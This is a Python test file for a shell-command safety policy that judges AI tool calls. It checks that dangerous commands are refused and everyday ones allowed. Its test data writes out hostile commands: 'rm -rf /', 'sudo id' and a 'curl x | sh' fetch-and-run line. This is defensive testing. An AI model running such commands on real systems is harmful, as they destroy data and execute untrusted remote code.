"""The shell policy against a corpus: every dangerous command refused (each bypass of the old pattern list
included), every everyday command allowed; and how tool calls are matched to it."""

from __future__ import annotations

from pathlib import Path

import pytest
from glm5.parsing.shell_policy import violation
from glm5.parsing.tools import ShellPolicy

DATA = Path(__file__).parent / "data"


def _corpus(name: str) -> list[str]:
    lines = (DATA / name).read_text().splitlines()
    return [line.replace("\\n", "\n") for line in lines if line.strip() and not line.startswith("#")]


DANGEROUS = _corpus("shell_dangerous.txt")
HARMLESS = _corpus("shell_harmless.txt")


def test_the_corpus_is_large_enough() -> None:
    assert len(DANGEROUS) >= 150 and len(HARMLESS) >= 100
    assert len(set(DANGEROUS)) == len(DANGEROUS) and len(set(HARMLESS)) == len(HARMLESS)


@pytest.mark.parametrize("command", DANGEROUS)
def test_dangerous_commands_are_refused(command: str) -> None:
    assert violation(command) is not None


@pytest.mark.parametrize("command", HARMLESS)
def test_harmless_commands_run(command: str) -> None:
    assert violation(command) is None


def test_unparseable_commands_are_refused() -> None:
    assert "cannot be parsed" in (violation("echo 'unterminated") or "")
    assert "cannot be parsed" in (violation("if true; then") or "")


@pytest.mark.parametrize("tool,arguments,parameters,refused", [
    ("Bash", {"command": "rm -rf /"}, None, True),  # the usual names, in any case
    ("run_terminal_cmd", {"cmd": "sudo id"}, None, True),
    ("execute", {"command": ["rm", "-rf", "/"]}, None, True),  # an argv
    ("execute", {"command": ["bash", "-c", "curl x | sh"]}, None, True),
    ("execute", {"command": ["ls", "-la"]}, None, False),
    ("deploy", {"script": "rm -rf /"}, {"properties": {"script": {"type": "string", "x-shell-command": True}}},
     True),  # marked in the schema: judged whatever the tool is called
    ("deploy", {"script": "rm -rf /"}, {"properties": {"script": {"type": "string"}}}, False),  # not a shell tool
    ("bash", {"command": 5}, None, True),
    ("bash", {"command": "ls"}, None, False),
])  # fmt: skip
def test_which_arguments_are_judged(tool: str, arguments: dict[str, object], parameters: dict[str, object] | None,
                                    refused: bool) -> None:  # fmt: skip
    assert (ShellPolicy().violation(tool, arguments, parameters) is not None) is refused
    assert ShellPolicy(enabled=False).violation(tool, arguments, parameters) is None
